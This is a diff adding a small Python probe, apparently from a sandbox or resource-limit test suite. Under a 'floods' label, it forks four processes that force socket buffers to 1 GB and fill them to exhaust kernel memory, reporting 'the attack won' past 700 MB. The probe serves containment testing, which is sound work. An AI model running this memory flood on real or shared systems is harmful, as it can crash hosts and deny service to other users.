@@ -1,0 +1,35 @@
+"""family: floods
+tries: gigabytes of the kernel's memory in enlarged socket buffers, filled by four processes
+honest: all
+"""
+
+# %%
+import os
+import socket
+import time
+
+read, write = os.pipe()
+for _ in range(4):
+    if os.fork() == 0:
+        ends = []
+        try:
+            while True:
+                ends += socket.socketpair()
+                for option in (socket.SO_SNDBUF, socket.SO_RCVBUF, 32, 33):
+                    ends[-1].setsockopt(socket.SOL_SOCKET, option, 1 << 30)
+                ends[-1].setblocking(False)
+                try:
+                    while True:
+                        ends[-1].send(bytes(1 << 20))
+                        os.write(write, b"x")
+                except BlockingIOError:
+                    pass
+        except OSError:
+            time.sleep(60)
+        finally:
+            os._exit(0)
+time.sleep(1.5)
+os.write(write, b".")
+held = len(os.read(read, 1 << 16))
+if held > 700:
+    print("the attack" " won", held, "MB")
